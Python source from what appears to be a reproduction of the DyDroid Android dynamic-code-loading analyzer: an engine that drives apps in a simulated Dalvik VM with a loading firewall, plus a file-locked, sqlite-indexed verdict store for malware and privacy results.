                    outcome=DynamicOutcome.REWRITING_FAILURE,
                    environment=opts.environment.name,
                )

        with self.tracer.span(
            "engine.provision",
            companions=len(opts.companions),
            remote_resources=len(opts.remote_resources),
        ):
            device, vm, logger, interceptor, tracker = self._provision(prepared, opts)
        firewall = getattr(vm, "firewall", None)
        report = DynamicReport(
            package=package,
            outcome=DynamicOutcome.EXERCISED,
            environment=opts.environment.name,
            rewritten=rewritten,
            dcl=logger,
            tracker=tracker,
            firewall_policy=opts.firewall_policy or "",
            # A live reference: decisions the firewall records during the
            # session appear on the report without further plumbing.
            firewall_decisions=firewall.decisions if firewall is not None else [],
        )

        with self.tracer.span("engine.container"):
            self._run_application_container(vm, prepared, report, opts)
        if report.outcome is DynamicOutcome.CRASH:
            self._finalize(report, device, interceptor, vm=vm, apk=prepared)
            return report

        activities = self._resolvable_activities(vm, prepared)
        services = self._resolvable_services(vm, prepared) if opts.exercise_services else []
        if not activities and not services and prepared.manifest.application_name is None:
            report.outcome = DynamicOutcome.NO_ACTIVITY
            self._finalize(report, device, interceptor, vm=vm, apk=prepared)
            return report

        monkey = Monkey(seed=opts.monkey_seed, event_budget=opts.monkey_budget)
        handlers = {
            name: discover_handlers(vm.class_space[name]) for name in activities
        }
        schedule = monkey.plan(activities, handlers)
        with self.tracer.span(
            "engine.monkey", n_activities=len(activities), n_events=len(schedule)
        ):
            self._drive(vm, schedule, report, opts)
        if report.outcome is not DynamicOutcome.CRASH and services:
            with self.tracer.span("engine.services", n_services=len(services)):
                self._drive_services(vm, services, report, opts)
        self._finalize(report, device, interceptor, vm=vm, apk=prepared)
        return report

    def replay_under_configs(
        self,
        apk: Apk,
        configs: Sequence[EnvironmentConfig],
        options: Optional[EngineOptions] = None,
    ) -> Dict[str, DynamicReport]:
        """Rerun one app under each environment configuration (Table VIII)."""
        from dataclasses import replace

        opts = options or self.options
        results = {}
        for env in configs:
            results[env.name] = self.run(apk, replace(opts, environment=env))
        return results

    # -- session plumbing ----------------------------------------------------------

    def _provision(
        self, apk: Apk, opts: EngineOptions
    ) -> Tuple[Device, DalvikVM, DclLogger, CodeInterceptor, DownloadTracker]:
        device = Device(config=opts.device_config or DeviceConfig())
        device.apply_environment(opts.environment, release_time_ms=opts.release_time_ms or None)
        for url, payload in opts.remote_resources.items():
            device.network.host_resource(url, payload)

        instrumentation = Instrumentation(block_file_ops=opts.block_file_ops)
        logger = DclLogger().attach(instrumentation)
        tracker = DownloadTracker().attach(instrumentation)
        interceptor = CodeInterceptor(
            device=device, mirror_to_sdcard=opts.mirror_dumps_to_sdcard
        ).attach(instrumentation)

        vm = DalvikVM(
            device, instrumentation, instruction_budget=opts.instruction_budget
        )
        for companion in opts.companions:
            device.install(companion)
        vm.install_app(apk, release_time_ms=opts.release_time_ms)
        if opts.firewall_policy:
            # Lazy import: repro.defense pulls in this package's __init__
            # via the policy module, so importing it at engine-import time
            # would cycle.
            from repro.defense.firewall import (
                DclFirewall,
                QuarantineStore,
                get_policy,
            )
            from repro.defense.policy import PolicyContext

            vm.firewall = DclFirewall(
                policy=get_policy(opts.firewall_policy),
                context=PolicyContext(
                    app_package=apk.package,
                    manifest=apk.manifest,
                    tracker=tracker,
                    vfs=device.vfs,
                ),
                verdict_store=opts.verdict_store,
                quarantine=QuarantineStore(opts.quarantine_dir)
                if opts.quarantine_dir
                else None,
                events=opts.events,
            )
        return device, vm, logger, interceptor, tracker

    def _run_application_container(
        self, vm: DalvikVM, apk: Apk, report: DynamicReport, opts: EngineOptions
    ) -> None:
        """Instantiate the <application android:name=...> class, if any."""
        container = apk.manifest.application_name
        if container is None or container not in vm.class_space:
            return
        instance = VMObject(container)
        for callback in ("<init>", "attachBaseContext", "onCreate"):
            if vm.resolve_app_method(container, callback) is None:
                continue
            if not self._invoke_guarded(vm, container, callback, instance, report, opts):
                report.outcome = DynamicOutcome.CRASH
                return
            report.events_run += 1

    def _resolvable_activities(self, vm: DalvikVM, apk: Apk) -> List[str]:
        """Declared activities whose bytecode actually exists."""
        return [
            component.name
            for component in apk.manifest.components
            if component.kind is ComponentKind.ACTIVITY
            and component.name in vm.class_space
        ]

    def _resolvable_services(self, vm: DalvikVM, apk: Apk) -> List[str]:
        return [
            component.name
            for component in apk.manifest.components
            if component.kind is ComponentKind.SERVICE
            and component.name in vm.class_space
        ]

    def _drive_services(
        self, vm: DalvikVM, services: List[str], report: DynamicReport, opts: EngineOptions
    ) -> None:
        """Start each declared service: onCreate -> onStartCommand/onStart."""
        for service_name in services:
            instance = VMObject(service_name)
            for callback in ("onCreate", "onStartCommand", "onStart"):
                if vm.resolve_app_method(service_name, callback) is None:
                    continue
                if not self._invoke_guarded(vm, service_name, callback, instance, report, opts):
                    report.outcome = DynamicOutcome.CRASH
                    return
                report.events_run += 1

    def _drive(
        self,
        vm: DalvikVM,
        schedule: Sequence[MonkeyEvent],
        report: DynamicReport,
        opts: EngineOptions,
    ) -> None:
        instances: Dict[str, VMObject] = {}
        for event in schedule:
            instance = instances.get(event.activity)
            if instance is None:
                instance = VMObject(event.activity)
                instances[event.activity] = instance
            if vm.resolve_app_method(event.activity, event.callback) is None:
                continue
            if not self._invoke_guarded(
                vm, event.activity, event.callback, instance, report, opts
            ):
                report.outcome = DynamicOutcome.CRASH
                return
            report.events_run += 1

    def _invoke_guarded(
        self,
        vm: DalvikVM,
        class_name: str,
        method_name: str,
        instance: VMObject,
        report: DynamicReport,
        opts: EngineOptions,
        retried: bool = False,
    ) -> bool:
        """Invoke one entry point; True when the session may continue."""
        try:
            vm.run_entry(class_name, method_name, [instance])
            return True
        except BudgetExceededError:
            # A looping handler: the watchdog kills the event, not the app.
            return True
        except FirewallDeniedException:
            # A blocked load the app did not catch unwinds only the current
            # entry point: the app continues degraded (the firewall's
            # contract), and the session is NOT a crash.
            return True
        except VMException as exc:
            if "ENOSPC" in exc.message and not retried:
                # The paper's automatic exception handling: free device
                # storage (our dump mirror is the main consumer) and retry.
                self._free_storage(vm)
                report.storage_cleanups += 1
                return self._invoke_guarded(
                    vm, class_name, method_name, instance, report, opts, retried=True
                )
            report.crash_reason = str(exc)
            return False

    @staticmethod
    def _free_storage(vm: DalvikVM) -> None:
        doomed = [
            path for path in vm.device.vfs.files if path.startswith("/mnt/sdcard/dydroid/")
        ]
        for path in doomed:
            vm.device.vfs.delete(path)

    def _finalize(
        self,
        report: DynamicReport,
        device: Device,
        interceptor: CodeInterceptor,
        vm: Optional[DalvikVM] = None,
        apk: Optional[Apk] = None,
    ) -> None:
        with self.tracer.span("engine.finalize", intercepted=len(interceptor.payloads)):
            self._collect(report, device, interceptor, vm, apk)

    @staticmethod
    def _collect(
        report: DynamicReport,
        device: Device,
        interceptor: CodeInterceptor,
        vm: Optional[DalvikVM] = None,
        apk: Optional[Apk] = None,
    ) -> None:
        if vm is not None and apk is not None:
            own_methods = {
                (method.class_name, method.name)
                for dex in apk.dex_files()
                for method in dex.iter_methods()
            }
            report.methods_total = len(own_methods)
            report.methods_executed = len(own_methods & vm.executed_methods)
        report.intercepted = list(interceptor.payloads)
        report.logcat = list(device.logcat)
        report.exfiltrated = list(device.network.exfil_log)
        report.surviving_paths = [
            payload.path
            for payload in interceptor.payloads
            if device.vfs.exists(payload.path)
        ]
