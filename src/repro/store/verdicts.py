"""The cross-shard verdict store: expensive verdicts computed once, fleet-wide.

DyDroid's scale claim rests on never re-analyzing the SDK payloads that
dominate a market: a handful of third-party SDKs account for most
intercepted DEX files, so DroidNative/FlowDroid work is naturally keyed by
payload digest, not by app.  The per-process
:class:`~repro.core.pipeline.LruCache` already deduplicates *within* one
pipeline instance; this module extends that to *every* pipeline instance
sharing a store path -- serial runs, farm shards (separate processes),
network farm nodes (separate hosts sharing a filesystem), and service
workers (separate threads):

- **tier 1** stays the in-process LRU in front (zero-cost hits);
- **tier 2** is this store: an append-only JSONL file, advisory-locked
  with ``fcntl.flock`` so concurrent writers (farm worker processes)
  never interleave partial lines, and re-scanned incrementally on miss so
  readers see verdicts other processes published mid-run.

File layout (one file, line-oriented)::

    {"kind": "header", "version": 1, "fingerprint": "<sha256[:16]>"}
    {"kind": "detection", "digest": "<payload sha256>", "verdict": {...} | null}
    {"kind": "privacy",   "digest": "<payload sha256>", "leaks": [{...}, ...]}

``verdict: null`` records a *computed* benign outcome -- distinct from
absence, which means "never analyzed".  The header fingerprint covers only
the configuration fields verdicts depend on (detector threshold, training
corpus identity, which analyses run), so Monkey seeds, replay settings and
other app-level knobs never invalidate a warm store.  A store written
under a different verdict configuration is refused with
:class:`StoreError`, mirroring the journal fingerprint contracts in
:mod:`repro.farm.checkpoint` and :mod:`repro.service.persist`.

Duplicate publishes (two processes racing on the same digest) are legal;
folds are **first write wins** everywhere -- the incremental scan, the
sidecar index, and compaction agree, so a lookup answers identically no
matter which path served it.

Concurrency model: appends take an exclusive ``flock`` around a single
buffered write+flush of one complete line (the file is opened
``O_APPEND``, so the line lands atomically at the end); reads take a
shared lock and only consume through the last complete newline, so a
writer killed mid-line can never corrupt a reader.  Crash-torn tails are
sealed with a newline under the exclusive lock both at open *and* before
every append, so a long-lived handle never concatenates onto a sibling's
debris.  Within one process a mutex serializes handle access, making one
store instance safely shareable across service worker threads.

Warm opens and point lookups are served by a sqlite sidecar index
(:mod:`repro.store.index`) mapping ``(kind, digest)`` to a byte offset,
so a handle on a million-line store reads exactly one line per lookup
instead of scanning.  The sidecar is derived data: deleting it costs one
full re-scan (counted in :attr:`VerdictStore.full_scans`), and
``repro store compact`` rebuilds it after garbage-collecting duplicate
and corrupt lines from the JSONL.
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
from contextlib import contextmanager
from dataclasses import fields
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple, Union

from repro.core.config import DyDroidConfig
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.privacy.flowdroid import PrivacyLeak
from repro.store.index import (
    SQLITE_ERRORS,
    StoreIndex,
    index_path,
    sqlite_available,
)

try:  # POSIX only; on other platforms the store degrades to thread-safety.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

__all__ = [
    "STORE_VERSION",
    "StoreError",
    "VerdictStore",
    "compact_store",
    "verdict_fingerprint",
]

STORE_VERSION = 1


class StoreError(ValueError):
    """The store file is unusable or was written for another configuration."""


def verdict_fingerprint(config: DyDroidConfig) -> str:
    """Identity of the configuration fields a payload verdict depends on.

    Deliberately narrower than the farm's run fingerprint or the service
    journal's whole-config fingerprint: detection and privacy verdicts are
    pure functions of the payload bytes and the analyzer setup, so only
    the analyzer knobs participate.  Changing the Monkey budget must not
    throw away a week of DroidNative work.
    """
    raw = repr(
        (
            "verdict-store",
            config.droidnative_threshold,
            config.train_samples_per_family,
            config.training_seed,
            config.run_malware,
            config.run_privacy,
        )
    ).encode("utf-8")
    return hashlib.sha256(raw).hexdigest()[:16]


def _detection_to_plain(detection: Optional[Detection]) -> Optional[Dict[str, object]]:
    if detection is None:
        return None
    return {f.name: getattr(detection, f.name) for f in fields(detection)}


def _detection_from_plain(data: Optional[Dict[str, object]]) -> Optional[Detection]:
    return None if data is None else Detection(**data)


def _leaks_to_plain(leaks: Tuple[PrivacyLeak, ...]) -> List[Dict[str, object]]:
    return [{f.name: getattr(leak, f.name) for f in fields(leak)} for leak in leaks]


def _leaks_from_plain(data: List[Dict[str, object]]) -> Tuple[PrivacyLeak, ...]:
    return tuple(PrivacyLeak(**leak) for leak in data)


@contextmanager
def _file_lock(handle, exclusive: bool) -> Iterator[None]:
    """Advisory whole-file lock; a no-op where ``fcntl`` is unavailable."""
    if fcntl is None:  # pragma: no cover - non-POSIX fallback
        yield
        return
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX if exclusive else fcntl.LOCK_SH)
    try:
        yield
    finally:
        fcntl.flock(handle.fileno(), fcntl.LOCK_UN)


class VerdictStore:
    """Content-addressed detection/privacy verdicts shared across processes.

    One instance per process (or per daemon, shared across its worker
    threads); any number of instances may point at the same path.  Lookups
    miss through three layers: the in-memory fold, the sqlite sidecar
    index (one ``pread`` of the recorded line), and finally an incremental
    scan of the file tail, so a verdict published by a sibling shard is
    visible before this process recomputes it.
    """

    def __init__(
        self,
        path: Union[str, Path],
        config: DyDroidConfig,
        index: bool = True,
    ) -> None:
        self.path = Path(path)
        self.fingerprint = verdict_fingerprint(config)
        #: digest -> serialized Detection (or None for computed-benign).
        self._detections: Dict[str, Optional[Dict[str, object]]] = {}
        #: digest -> serialized leak list.
        self._privacy: Dict[str, List[Dict[str, object]]] = {}
        self._offset = 0
        self._header_checked = False
        #: unparseable interior lines skipped during scans (external
        #: tampering; the records are a cache, so skipping only costs a
        #: recomputation).
        self.corrupt_lines = 0
        #: scans that started at byte 0 -- a warm open with a healthy
        #: sidecar never performs one (the acceptance counter for the
        #: index: ``full_scans == 0`` on warm opens).
        self.full_scans = 0
        #: point lookups served by the sidecar index (one line read).
        self.index_hits = 0
        #: sidecar probes that found nothing and fell through to a scan.
        self.index_misses = 0
        self._mutex = threading.Lock()
        self.path.parent.mkdir(parents=True, exist_ok=True)
        # "a+b" creates the file if missing and opens O_APPEND: every
        # write lands at the end regardless of the read position.
        self._handle = self.path.open("a+b")
        with self._mutex:
            with _file_lock(self._handle, exclusive=True):
                self._handle.seek(0, os.SEEK_END)
                size = self._handle.tell()
                if size == 0:
                    self._write_line(
                        {
                            "kind": "header",
                            "version": STORE_VERSION,
                            "fingerprint": self.fingerprint,
                        }
                    )
                else:
                    self._seal_torn_tail(size)
                self._handle.seek(0, os.SEEK_END)
                size = self._handle.tell()
            # Validate the header *before* touching the sidecar so a
            # refused store never grows an index file.
            self._read_header()
            self._index: Optional[StoreIndex] = None
            if index and sqlite_available():
                try:
                    self._index = StoreIndex(
                        index_path(self.path), self.fingerprint, size
                    )
                    self._offset = self._index.watermark()
                except SQLITE_ERRORS:
                    self._index = None
                    self._offset = 0
            self._refresh()

    def _seal_torn_tail(self, size: int) -> None:
        """Terminate a crash-torn final line (exclusive lock and mutex held).

        A writer killed mid-append leaves a partial line with no newline.
        Left alone, the next publish would concatenate onto it, corrupting
        *both* records.  Sealing with a newline turns the torn tail into
        an ordinary corrupt interior line, which scans skip.  Holding the
        exclusive lock guarantees no live writer is mid-append, so a
        missing final newline can only be crash debris.
        """
        self._handle.seek(size - 1)
        if self._handle.read(1) != b"\n":
            self._handle.write(b"\n")
            self._handle.flush()

    def _read_header(self) -> None:
        """Parse and validate line 1 directly (no full scan needed)."""
        with _file_lock(self._handle, exclusive=False):
            self._handle.seek(0)
            raw = self._handle.readline()
        try:
            entry = json.loads(raw)
        except json.JSONDecodeError:
            raise StoreError("{}: no store header found".format(self.path))
        if not isinstance(entry, dict) or entry.get("kind") != "header":
            raise StoreError("{}: no store header found".format(self.path))
        self._check_header(entry)

    # -- scanning ----------------------------------------------------------------

    def _refresh(self) -> None:
        """Fold lines other writers appended since the last scan (mutex held).

        Every complete line scanned is also upserted into the sidecar
        index before its watermark advances, so the index is healed as a
        side effect of ordinary reads -- whichever process scans a range
        first indexes it for the whole fleet.
        """
        with _file_lock(self._handle, exclusive=False):
            self._handle.seek(0, os.SEEK_END)
            size = self._handle.tell()
            if size <= self._offset:
                return
            self._handle.seek(self._offset)
            chunk = self._handle.read(size - self._offset)
        cut = chunk.rfind(b"\n")
        if cut < 0:
            return  # only a torn tail so far; wait for the writer to finish
        if self._offset == 0:
            self.full_scans += 1
        complete = chunk[: cut + 1]
        offset = self._offset
        self._offset += cut + 1
        rows: List[Tuple[str, str, int]] = []
        for raw in complete.splitlines(keepends=True):
            line_offset = offset
            offset += len(raw)
            try:
                entry = json.loads(raw)
            except json.JSONDecodeError:
                self.corrupt_lines += 1
                continue
            if not isinstance(entry, dict):
                self.corrupt_lines += 1
                continue
            kind = entry.get("kind")
            if kind == "header":
                self._check_header(entry)
            elif kind == "detection" and "digest" in entry:
                self._detections.setdefault(entry["digest"], entry.get("verdict"))
                rows.append(("detection", entry["digest"], line_offset))
            elif kind == "privacy" and "digest" in entry:
                self._privacy.setdefault(entry["digest"], entry.get("leaks") or [])
                rows.append(("privacy", entry["digest"], line_offset))
            else:
                self.corrupt_lines += 1
        if self._index is not None:
            try:
                self._index.advance(rows, self._offset)
            except SQLITE_ERRORS:
                self._disable_index()

    def _check_header(self, entry: Dict[str, object]) -> None:
        if entry.get("version") != STORE_VERSION:
            raise StoreError(
                "{}: unsupported store version {}".format(self.path, entry.get("version"))
            )
        if entry.get("fingerprint") != self.fingerprint:
            raise StoreError(
                "verdict store {} was written under a different analyzer "
                "configuration; refusing to serve its verdicts".format(self.path)
            )
        self._header_checked = True

    # -- sidecar index -----------------------------------------------------------

    def _disable_index(self) -> None:
        """Drop the sidecar and fall back to memory-only (mutex held).

        The in-memory fold may only cover ``[watermark, EOF)``, so the
        offset rewinds to zero and one full scan rebuilds complete
        coverage.  First-wins ``setdefault`` makes the re-fold idempotent.
        """
        index, self._index = self._index, None
        if index is not None:
            try:
                index.close()
            except SQLITE_ERRORS:  # pragma: no cover - close is best-effort
                pass
        self._offset = 0
        self._refresh()

    def _entry_at(self, offset: int) -> Optional[Dict[str, object]]:
        """Read and parse the single line starting at ``offset``."""
        with _file_lock(self._handle, exclusive=False):
            self._handle.seek(offset)
            raw = self._handle.readline()
        try:
            entry = json.loads(raw)
        except json.JSONDecodeError:
            return None
        return entry if isinstance(entry, dict) else None

    def _find(self, kind: str, digest: str) -> Tuple[bool, object]:
        """Three-layer lookup: memory, sidecar index, then tail scan."""
        table = self._detections if kind == "detection" else self._privacy
        if digest in table:
            return True, table[digest]
        if self._index is not None:
            try:
                offset = self._index.lookup(kind, digest)
            except SQLITE_ERRORS:
                self._disable_index()
            else:
                if offset is not None:
                    entry = self._entry_at(offset)
                    if (
                        entry is not None
                        and entry.get("kind") == kind
                        and entry.get("digest") == digest
                    ):
                        payload = (
                            entry.get("verdict")
                            if kind == "detection"
                            else entry.get("leaks") or []
                        )
                        table[digest] = payload
                        self.index_hits += 1
                        return True, payload
                    # The recorded offset no longer holds that record: the
                    # JSONL was rewritten underneath the sidecar.  Rebuild
                    # from scratch rather than trust any other row.
                    try:
                        self._index.reset()
                    except SQLITE_ERRORS:
                        self._disable_index()
                    else:
                        self._offset = 0
                else:
                    self.index_misses += 1
        self._refresh()
        if digest in table:
            return True, table[digest]
        return False, None

    def _published(self, kind: str, digest: str) -> bool:
        """Duplicate-suppression probe for puts (memory + index only)."""
        table = self._detections if kind == "detection" else self._privacy
        if digest in table:
            return True
        if self._index is not None:
            try:
                return self._index.lookup(kind, digest) is not None
            except SQLITE_ERRORS:
                self._disable_index()
        return False

    # -- appends -----------------------------------------------------------------

    def _write_line(self, entry: Dict[str, object]) -> None:
        self._handle.write(json.dumps(entry, sort_keys=True).encode("utf-8") + b"\n")
        self._handle.flush()

    def _publish(self, entry: Dict[str, object]) -> None:
        with _file_lock(self._handle, exclusive=True):
            # A sibling process may have died mid-append since our own
            # open-time seal; re-check under the exclusive lock so this
            # line never concatenates onto its torn tail.
            self._handle.seek(0, os.SEEK_END)
            size = self._handle.tell()
            if size:
                self._seal_torn_tail(size)
            self._write_line(entry)

    # -- detection tier ----------------------------------------------------------

    def get_detection(self, digest: str) -> Tuple[bool, Optional[Detection]]:
        """``(found, verdict)``; ``(True, None)`` means computed-benign."""
        with self._mutex:
            found, payload = self._find("detection", digest)
        if not found:
            return False, None
        return True, _detection_from_plain(payload)

    def put_detection(self, digest: str, detection: Optional[Detection]) -> None:
        payload = _detection_to_plain(detection)
        with self._mutex:
            if self._published("detection", digest):
                return  # a sibling already published this digest
            self._publish({"kind": "detection", "digest": digest, "verdict": payload})
            self._detections.setdefault(digest, payload)

    # -- privacy tier ------------------------------------------------------------

    def get_privacy(self, digest: str) -> Tuple[bool, Tuple[PrivacyLeak, ...]]:
        with self._mutex:
            found, payload = self._find("privacy", digest)
        if not found:
            return False, ()
        return True, _leaks_from_plain(payload)

    def put_privacy(self, digest: str, leaks: Tuple[PrivacyLeak, ...]) -> None:
        payload = _leaks_to_plain(leaks)
        with self._mutex:
            if self._published("privacy", digest):
                return
            self._publish({"kind": "privacy", "digest": digest, "leaks": payload})
            self._privacy.setdefault(digest, payload)

    # -- introspection / lifecycle -----------------------------------------------

    def counts(self) -> Dict[str, int]:
        with self._mutex:
            self._refresh()
            if self._index is not None:
                try:
                    return {
                        "detection": self._index.count("detection"),
                        "privacy": self._index.count("privacy"),
                    }
                except SQLITE_ERRORS:
                    self._disable_index()
            return {"detection": len(self._detections), "privacy": len(self._privacy)}

    def index_stats(self) -> Dict[str, object]:
        """Sidecar health counters (for stats endpoints and benchmarks)."""
        with self._mutex:
            return {
                "enabled": self._index is not None,
                "full_scans": self.full_scans,
                "index_hits": self.index_hits,
                "index_misses": self.index_misses,
            }

    def close(self) -> None:
        with self._mutex:
            if not self._handle.closed:
                # Final sync: advance the index through EOF so the next
                # open starts at the watermark instead of re-scanning.
                self._refresh()
                self._handle.close()
            index, self._index = self._index, None
            if index is not None:
                try:
                    index.close()
                except SQLITE_ERRORS:  # pragma: no cover - best-effort
                    pass

    def __enter__(self) -> "VerdictStore":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


# -- compaction (``repro store compact``) ------------------------------------------


def compact_store(path: Union[str, Path]) -> Dict[str, int]:
    """Garbage-collect a store file in place and rebuild its sidecar index.

    Drops duplicate ``(kind, digest)`` publishes (keeping the *first*,
    matching the fold rule), corrupt interior lines, and any crash-torn
    tail, then rewrites the surviving lines byte-identically -- so every
    lookup answers exactly as before, from a smaller file.  The rewrite
    happens under the exclusive flock via seek+truncate rather than an
    atomic rename: sibling ``O_APPEND`` handles keep pointing at the same
    inode, but their scan offsets go stale, so run compaction **offline**
    (no live readers or writers on the path).

    Returns ``{"entries", "dropped_duplicates", "dropped_corrupt",
    "bytes_before", "bytes_after"}``.
    """
    path = Path(path)
    if not path.exists():
        raise StoreError("{}: no such store".format(path))
    with path.open("r+b") as handle:
        with _file_lock(handle, exclusive=True):
            data = handle.read()
            if not data:
                raise StoreError("{}: no store header found".format(path))
            lines = data.splitlines(keepends=True)
            dropped_corrupt = 0
            if lines and not lines[-1].endswith(b"\n"):
                dropped_corrupt += 1  # crash-torn tail
                lines = lines[:-1]
            if not lines:
                raise StoreError("{}: no store header found".format(path))
            try:
                header = json.loads(lines[0])
            except json.JSONDecodeError:
                header = None
            if not isinstance(header, dict) or header.get("kind") != "header":
                raise StoreError("{}: no store header found".format(path))
            if header.get("version") != STORE_VERSION:
                raise StoreError(
                    "{}: unsupported store version {}".format(path, header.get("version"))
                )
            kept = [lines[0]]
            rows: List[Tuple[str, str, int]] = []
            seen = set()
            dropped_duplicates = 0
            offset = len(lines[0])
            for raw in lines[1:]:
                try:
                    entry = json.loads(raw)
                except json.JSONDecodeError:
                    dropped_corrupt += 1
                    continue
                if not isinstance(entry, dict):
                    dropped_corrupt += 1
                    continue
                kind = entry.get("kind")
                if kind not in ("detection", "privacy") or "digest" not in entry:
                    dropped_corrupt += 1
                    continue
                key = (kind, entry["digest"])
                if key in seen:
                    dropped_duplicates += 1
                    continue
                seen.add(key)
                rows.append((kind, entry["digest"], offset))
                kept.append(raw)
                offset += len(raw)
            compacted = b"".join(kept)
            if len(compacted) != len(data):
                handle.seek(0)
                handle.write(compacted)
                handle.truncate(len(compacted))
                handle.flush()
            if sqlite_available():
                try:
                    index = StoreIndex(
                        index_path(path), str(header.get("fingerprint")), len(compacted)
                    )
                    index.rebuild(rows, len(compacted))
                    index.close()
                except SQLITE_ERRORS:  # pragma: no cover - index is derived data
                    pass  # a stale sidecar self-heals on the next open
    return {
        "entries": len(rows),
        "dropped_duplicates": dropped_duplicates,
        "dropped_corrupt": dropped_corrupt,
        "bytes_before": len(data),
        "bytes_after": len(compacted),
    }
