"""The cross-shard verdict store: expensive verdicts computed once, fleet-wide.

DyDroid's scale claim rests on never re-analyzing the SDK payloads that
dominate a market: a handful of third-party SDKs account for most
intercepted DEX files, so DroidNative/FlowDroid work is naturally keyed by
payload digest, not by app.  The per-process
:class:`~repro.core.pipeline.LruCache` already deduplicates *within* one
pipeline instance; this module extends that to *every* pipeline instance
sharing a store path -- serial runs, farm shards (separate processes), and
service workers (separate threads):

- **tier 1** stays the in-process LRU in front (zero-cost hits);
- **tier 2** is this store: an append-only JSONL file, advisory-locked
  with ``fcntl.flock`` so concurrent writers (farm worker processes)
  never interleave partial lines, and re-scanned incrementally on miss so
  readers see verdicts other processes published mid-run.

File layout (one file, line-oriented)::

    {"kind": "header", "version": 1, "fingerprint": "<sha256[:16]>"}
    {"kind": "detection", "digest": "<payload sha256>", "verdict": {...} | null}
    {"kind": "privacy",   "digest": "<payload sha256>", "leaks": [{...}, ...]}

``verdict: null`` records a *computed* benign outcome -- distinct from
absence, which means "never analyzed".  The header fingerprint covers only
the configuration fields verdicts depend on (detector threshold, training
corpus identity, which analyses run), so Monkey seeds, replay settings and
other app-level knobs never invalidate a warm store.  A store written
under a different verdict configuration is refused with
:class:`StoreError`, mirroring the journal fingerprint contracts in
:mod:`repro.farm.checkpoint` and :mod:`repro.service.persist`.

Concurrency model: appends take an exclusive ``flock`` around a single
buffered write+flush of one complete line (the file is opened
``O_APPEND``, so the line lands atomically at the end); reads take a
shared lock and only consume through the last complete newline, so a
writer killed mid-line can never corrupt a reader.  Within one process a
mutex serializes handle access, making one store instance safely
shareable across service worker threads.
"""

from __future__ import annotations

import hashlib
import json
import os
import threading
from contextlib import contextmanager
from dataclasses import fields
from pathlib import Path
from typing import Dict, Iterator, List, Optional, Tuple, Union

from repro.core.config import DyDroidConfig
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.privacy.flowdroid import PrivacyLeak

try:  # POSIX only; on other platforms the store degrades to thread-safety.
    import fcntl
except ImportError:  # pragma: no cover - non-POSIX fallback
    fcntl = None

__all__ = ["STORE_VERSION", "StoreError", "VerdictStore", "verdict_fingerprint"]

STORE_VERSION = 1


class StoreError(ValueError):
    """The store file is unusable or was written for another configuration."""


def verdict_fingerprint(config: DyDroidConfig) -> str:
    """Identity of the configuration fields a payload verdict depends on.

    Deliberately narrower than the farm's run fingerprint or the service
    journal's whole-config fingerprint: detection and privacy verdicts are
    pure functions of the payload bytes and the analyzer setup, so only
    the analyzer knobs participate.  Changing the Monkey budget must not
    throw away a week of DroidNative work.
    """
    raw = repr(
        (
            "verdict-store",
            config.droidnative_threshold,
            config.train_samples_per_family,
            config.training_seed,
            config.run_malware,
            config.run_privacy,
        )
    ).encode("utf-8")
    return hashlib.sha256(raw).hexdigest()[:16]


def _detection_to_plain(detection: Optional[Detection]) -> Optional[Dict[str, object]]:
    if detection is None:
        return None
    return {f.name: getattr(detection, f.name) for f in fields(detection)}


def _detection_from_plain(data: Optional[Dict[str, object]]) -> Optional[Detection]:
    return None if data is None else Detection(**data)


def _leaks_to_plain(leaks: Tuple[PrivacyLeak, ...]) -> List[Dict[str, object]]:
    return [{f.name: getattr(leak, f.name) for f in fields(leak)} for leak in leaks]


def _leaks_from_plain(data: List[Dict[str, object]]) -> Tuple[PrivacyLeak, ...]:
    return tuple(PrivacyLeak(**leak) for leak in data)


@contextmanager
def _file_lock(handle, exclusive: bool) -> Iterator[None]:
    """Advisory whole-file lock; a no-op where ``fcntl`` is unavailable."""
    if fcntl is None:  # pragma: no cover - non-POSIX fallback
        yield
        return
    fcntl.flock(handle.fileno(), fcntl.LOCK_EX if exclusive else fcntl.LOCK_SH)
    try:
        yield
    finally:
        fcntl.flock(handle.fileno(), fcntl.LOCK_UN)


class VerdictStore:
    """Content-addressed detection/privacy verdicts shared across processes.

    One instance per process (or per daemon, shared across its worker
    threads); any number of instances may point at the same path.  Lookups
    that miss the in-memory view re-scan the file tail first, so a verdict
    published by a sibling shard is visible before this process recomputes
    it.
    """

    def __init__(self, path: Union[str, Path], config: DyDroidConfig) -> None:
        self.path = Path(path)
        self.fingerprint = verdict_fingerprint(config)
        #: digest -> serialized Detection (or None for computed-benign).
        self._detections: Dict[str, Optional[Dict[str, object]]] = {}
        #: digest -> serialized leak list.
        self._privacy: Dict[str, List[Dict[str, object]]] = {}
        self._offset = 0
        self._header_checked = False
        #: unparseable interior lines skipped during scans (external
        #: tampering; the records are a cache, so skipping only costs a
        #: recomputation).
        self.corrupt_lines = 0
        self._mutex = threading.Lock()
        self.path.parent.mkdir(parents=True, exist_ok=True)
        # "a+b" creates the file if missing and opens O_APPEND: every
        # write lands at the end regardless of the read position.
        self._handle = self.path.open("a+b")
        with self._mutex:
            with _file_lock(self._handle, exclusive=True):
                self._handle.seek(0, os.SEEK_END)
                size = self._handle.tell()
                if size == 0:
                    self._write_line(
                        {
                            "kind": "header",
                            "version": STORE_VERSION,
                            "fingerprint": self.fingerprint,
                        }
                    )
                else:
                    self._seal_torn_tail(size)
            self._refresh()
        if not self._header_checked:
            raise StoreError("{}: no store header found".format(self.path))

    def _seal_torn_tail(self, size: int) -> None:
        """Terminate a crash-torn final line (exclusive lock and mutex held).

        A writer killed mid-append leaves a partial line with no newline.
        Left alone, the next publish would concatenate onto it, corrupting
        *both* records.  Sealing with a newline turns the torn tail into
        an ordinary corrupt interior line, which scans skip.  Holding the
        exclusive lock guarantees no live writer is mid-append, so a
        missing final newline can only be crash debris.
        """
        self._handle.seek(size - 1)
        if self._handle.read(1) != b"\n":
            self._handle.write(b"\n")
            self._handle.flush()

    # -- scanning ----------------------------------------------------------------

    def _refresh(self) -> None:
        """Fold lines other writers appended since the last scan (mutex held)."""
        with _file_lock(self._handle, exclusive=False):
            self._handle.seek(0, os.SEEK_END)
            size = self._handle.tell()
            if size <= self._offset:
                return
            self._handle.seek(self._offset)
            chunk = self._handle.read(size - self._offset)
